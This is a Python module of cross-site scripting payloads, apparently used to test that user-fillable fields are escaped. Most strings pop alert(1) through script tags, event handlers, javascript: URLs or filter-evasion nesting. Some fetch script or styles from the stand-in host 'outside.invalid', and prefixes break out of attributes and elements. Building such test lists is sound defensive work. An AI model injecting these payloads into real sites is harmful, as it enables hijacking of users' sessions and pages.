"""Words that would act if a page took them for its own: what T20 puts into every field that strangers can fill."""

from typing import Final

OUTSIDE: Final = "outside.invalid"
"""A host that nothing may be fetched from."""
ACTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//outside.invalid/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="//outside.invalid/p.png" onload=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
    "javascript:alert(1)",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=//outside.invalid/>",
    "<link rel=stylesheet href=//outside.invalid/x.css>",
    "<style>@import '//outside.invalid/x.css';</style>",
    "{{ 7 | times: 7 }}<p style=background:url(//outside.invalid/p.png)>x",
)
WAYS_OUT: Final = (
    "",
    '" autofocus onfocus=alert(1) x=">',
    "' autofocus onfocus=alert(1) x='>",
    "</textarea></title></script>-->",
)
"""Out of what they may stand in: nothing, an attribute of either kind, an element whose text is not read as HTML."""
PAYLOADS: Final = tuple(way + act for way in WAYS_OUT for act in ACTS)
